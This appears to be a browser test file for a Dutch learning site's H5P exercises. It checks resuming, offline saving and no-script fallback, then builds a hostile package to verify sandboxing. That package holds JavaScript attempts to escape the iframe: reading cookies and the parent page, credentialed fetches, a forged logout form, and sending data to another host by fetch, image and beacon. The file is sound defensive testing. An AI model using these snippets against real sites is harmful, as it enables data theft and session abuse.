@@ -1,0 +1,250 @@
+"""Interactive exercises behind glass: played, kept, resumed; and a package that tries everything gets nowhere."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import ClassVar
+
+import pytest
+
+from tests.browser.demo_site import DemoSite
+from tests.factories.h5p import library_json, manifest, package
+from tests.servers import folder
+
+pytestmark = pytest.mark.browser
+EXERCISE = "/oefening/i1/"
+FRAME = "iframe[data-src]"
+
+
+@pytest.fixture
+def begin(open_page):
+    """A function that opens an exercise and begins it, as a role."""
+
+    def begun(address=EXERCISE, *, role="learner", width=1280):
+        page = open_page(address, role=role, width=width)
+        page.click("main form button")
+        page.wait_for_url("**/oefening-doen/**")
+        page.frame_locator(FRAME).locator(".h5p-container > *").first.wait_for()
+        return page
+
+    return begun
+
+
+def answer(page, question: int, choice: int) -> None:
+    group = page.frame_locator(FRAME).locator("fieldset").nth(question)
+    group.locator("input").nth(choice).check()
+    group.locator("button").click()
+
+
+def saved(page) -> None:
+    page.locator("[data-status][data-state=saved]").wait_for()
+
+
+def chosen(page) -> list[int]:
+    frame = page.frame_locator(FRAME)
+    return [
+        number
+        for number in range(frame.locator("fieldset").count())
+        if frame.locator("fieldset").nth(number).locator("input:checked").count()
+    ]
+
+
+def test_an_exercise_is_played_resumed_and_finished_with_a_score(begin, open_page):
+    page = begin()
+    answer(page, 0, 0)
+    saved(page)
+    page.reload()
+    page.frame_locator(FRAME).locator("fieldset").first.wait_for()
+    assert chosen(page) == [0]
+    answer(page, 1, 1)
+    answer(page, 2, 1)
+    page.locator("[data-finished]").wait_for()
+    assert (
+        "67%" in page.locator("[data-finished]").inner_text()
+        or "66" in page.locator("[data-finished]").inner_text()
+    )
+    shown = open_page(EXERCISE, role="learner")
+    assert "beste score" in shown.locator("main").inner_text()
+
+
+def test_what_was_done_without_a_connection_is_not_lost(begin, contexts):
+    page = begin(role="coach")
+    answer(page, 0, 0)
+    saved(page)
+    context = contexts("coach")
+    context.set_offline(True)
+    answer(page, 1, 0)
+    page.wait_for_timeout(200)
+    page.locator("[data-status][data-state=device]").wait_for()
+    address = page.url
+    page.close()
+    context.set_offline(False)
+    again = context.new_page()
+    again.goto(address)
+    again.frame_locator(FRAME).locator("fieldset").first.wait_for()
+    assert chosen(again) == [0, 1]
+    again.close()
+
+
+def test_the_frame_grows_with_what_is_in_it_and_asks_little(begin):
+    asked: list[str] = []
+    page = begin(role="lead")
+    page.on("request", lambda request: asked.append(request.url))
+    page.reload()
+    page.frame_locator(FRAME).locator("fieldset").first.wait_for()
+    page.wait_for_function("document.querySelector('iframe[data-src]').height > 430")
+    assert len(asked) <= 35
+
+
+def test_without_scripts_and_on_paper_the_text_stands_there(demo_site, browser, contexts):
+    state = contexts("learner").storage_state()
+    plain = browser.new_context(base_url=demo_site.url, java_script_enabled=False, storage_state=state)
+    page = plain.new_page()
+    page.goto(EXERCISE)
+    page.click("main form button")
+    assert (
+        page.locator("noscript >> text=Er liggen vijf stappen").count()
+        or "Er liggen vijf stappen" in page.locator("main").inner_text()
+    )
+    assert not page.locator(FRAME).is_visible()
+    plain.close()
+
+
+# --- A package that tries everything ---------------------------------------------------------------
+
+ATTEMPTS = {
+    "top navigation": "window.top.location = '/weg/'; if (window.top.location.href) return true;",
+    "parent document": "return Boolean(window.parent.document.body);",
+    "cookies": "return document.cookie !== '' || Boolean(document.cookie = 'a=b') && document.cookie.includes('a=b');",
+    "storage of the site": "delete window.localStorage; return window.localStorage.length >= 0;",
+    "a database of the browser": "return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes(true); r.onerror = () => no(r.error); });",
+    "a popup": "return window.open('/', '_blank') !== null;",
+    "a form": "const f = document.createElement('form'); f.action = SITE + '/account/logout/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 400)); return false;",
+    "eval": "return eval('1 + 1') === 2;",
+    "new Function": "return new Function('return 1')() === 1;",
+    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); return window.ran === true;",
+    "a script from elsewhere": "return await new Promise((yes, no) => { const s = document.createElement('script'); s.src = ELSEWHERE + '/x.js'; s.onload = () => yes(true); s.onerror = no; document.head.append(s); });",
+    "fetching as who is signed in": "const r = await fetch(SITE + '/mijn-leerpad/', {credentials: 'include'}); return r.ok;",
+    "a service worker": "await navigator.serviceWorker.register('/h5p/lib/sw.js'); return true;",
+    "a worker": "new Worker(URL.createObjectURL(new Blob(['1']))); return await new Promise((yes) => setTimeout(() => yes(false), 300));",
+    "sending away by fetch": "await fetch(ELSEWHERE + '/weg', {mode: 'no-cors'}); return true;",
+    "sending away by a picture": "return await new Promise((yes, no) => { const i = new Image(); i.onload = () => yes(true); i.onerror = no; i.src = ELSEWHERE + '/weg.png'; });",
+    "sending away by a beacon": "navigator.sendBeacon(ELSEWHERE + '/weg', 'x'); await new Promise((done) => setTimeout(done, 200)); return false;",
+    "a frame of the site": "return await new Promise((yes) => { const f = document.createElement('iframe'); f.src = SITE + '/'; f.onload = () => { try { yes(Boolean(f.contentDocument.body.innerText)); } catch { yes(false); } }; document.body.append(f); setTimeout(() => yes(false), 800); });",
+}
+
+
+HOSTILE = """
+var Test = {};
+Test.Story = function () { H5P.EventDispatcher.call(this); };
+Test.Story.prototype = Object.create(H5P.EventDispatcher.prototype);
+Test.Story.prototype.attach = async function ($place) {
+  const SITE = SITE_HERE, ELSEWHERE = ELSEWHERE_HERE, outcome = {};
+  const tries = { TRIES_HERE };
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { outcome[name] = (await attempt()) === true ? "worked" : "blocked"; } catch (error) { outcome[name] = "blocked"; }
+  }
+  const said = document.createElement("pre");
+  said.id = "outcome";
+  said.textContent = JSON.stringify(outcome);
+  $place.get(0).append(said);
+};
+"""
+
+
+def hostile(site: str, elsewhere: str) -> bytes:
+    """A package whose code tries each of these, and says by name what worked."""
+    tries = ",".join(f"{json.dumps(name)}: async () => {{ {code} }}" for name, code in ATTEMPTS.items())
+    script = HOSTILE.replace("SITE_HERE", json.dumps(site)).replace("ELSEWHERE_HERE", json.dumps(elsewhere))
+    return package(
+        **{
+            "h5p.json": manifest(title="Een vijandig pakket"),
+            "Test.Story-1.0/library.json": library_json(preloadedCss=[]),
+            "Test.Story-1.0/story.js": script.replace("TRIES_HERE", tries),
+            "Test.Story-1.0/gif.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='ran'</script></svg>",
+            "content/blad.txt": "<script>document.title = 'ran'</script>",
+        }
+    ).getvalue()
+
+
+class Listener(http.server.BaseHTTPRequestHandler):
+    """Another site, which hears everything that reaches it."""
+
+    heard: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        """Note it, and answer."""
+        self.heard.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_POST = do_GET  # noqa: N815 - the same
+
+    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that the parent has
+        """Say nothing."""
+
+
+@pytest.fixture(scope="module")
+def elsewhere() -> Iterator[str]:
+    """The address of another site."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def trap(demo_site: DemoSite, elsewhere: str) -> str:
+    """The address of an exercise with a hostile file."""
+    file = Path(folder()) / "browser" / "hostile.h5p"
+    file.write_bytes(hostile(demo_site.url, elsewhere))
+    code = (
+        "from django.utils import timezone; from pathlib import Path; from assessments.api import interactive as i;"
+        f"i.load_exercise(code='I9', title='Vijandig', text='Tekst', minutes=1, package=Path({str(file)!r}).read_bytes(),"
+        " now=timezone.now())"
+    )
+    demo_site.manage("shell", "-v0", "-c", code)
+    return "/oefening/i9/"
+
+
+@pytest.fixture
+def outcome(trap, contexts):
+    """What each attempt of the hostile package came to, and the page around it."""
+    page = contexts("trainer").new_page()
+    page.goto(trap)
+    page.click("main form button")
+    page.wait_for_url("**/oefening-doen/**")
+    said = page.frame_locator(FRAME).locator("#outcome")
+    said.wait_for(timeout=20_000)
+    yield json.loads(said.inner_text()), page
+    page.close()
+
+
+def test_each_attempt_of_a_hostile_package_is_blocked(outcome):
+    found, page = outcome
+    assert found == dict.fromkeys(ATTEMPTS, "blocked")
+    assert Listener.heard == []
+    assert "/oefening-doen/" in page.url
+    assert page.context.pages == [page]
+    page.goto("/mijn-leerpad/")
+    assert "/account/login/" not in page.url
+
+
+def test_files_of_a_package_opened_directly_do_nothing(outcome):
+    _, page = outcome
+    frame = page.frames[1]
+    addresses = frame.evaluate("[...document.scripts].map((each) => each.src)")
+    base = next(address for address in addresses if address.endswith("alles.js")).removesuffix("alles.js")
+    content = frame.evaluate("JSON.parse(document.getElementById('h5p-integration').textContent).url")
+    for address in (f"{base}alles.js", f"{base}Test.Story-1.0/gif.svg", f"{content}/blad.txt", frame.url):
+        answer = page.goto(address)
+        assert answer.status in {200, 404}
+        assert "sandbox" in answer.headers["content-security-policy"]
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert page.title() != "ran"
